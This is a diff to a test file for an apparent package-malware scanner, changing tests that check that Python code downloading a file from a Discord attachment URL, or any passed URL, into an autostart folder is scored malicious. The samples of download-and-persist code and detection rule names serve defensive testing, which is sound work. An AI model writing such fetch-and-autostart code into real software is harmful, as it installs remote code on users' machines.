@@ -355,7 +355,7 @@ test('code written to a file at import that downloads and executes is analysed, 
   assert.ok(out.findings.some((f) => f.ruleId === 'py/download-execute' && f.message.includes('203.0.113.9')));
 });
 
-test('a program from a drop site written into an autostart folder is critical even in called code', async () => {
+test('a download written into an autostart folder is critical even in called code', async () => {
   const code = [
     'import os, requests',
     'def install():',
@@ -365,6 +365,9 @@ test('a program from a drop site written into an autostart folder is critical ev
   ].join('\n');
   const { score } = await scan({ 'pkg/tool.py': code });
   assert.equal(score.verdict, 'malicious', score.reason);
+  // Whatever URL the caller passes: still a download installed to run at every login.
+  const { score: anyUrl } = await scan({ 'pkg/tool.py': code.replace("requests.get('https://cdn.discordapp.com/attachments/1/2/main.py')", 'requests.get(url)').replace('def install():', 'def install(url):') });
+  assert.equal(anyUrl.verdict, 'malicious', anyUrl.reason);
   // The same shortcut written from the package's own text, when called, is not decisive on its own.
   const { score: own } = await scan({ 'pkg/tool.py': code.replace("requests.get('https://cdn.discordapp.com/attachments/1/2/main.py').content", "b'import mytool; mytool.tray()'") });
   assert.notEqual(own.verdict, 'malicious', own.reason);
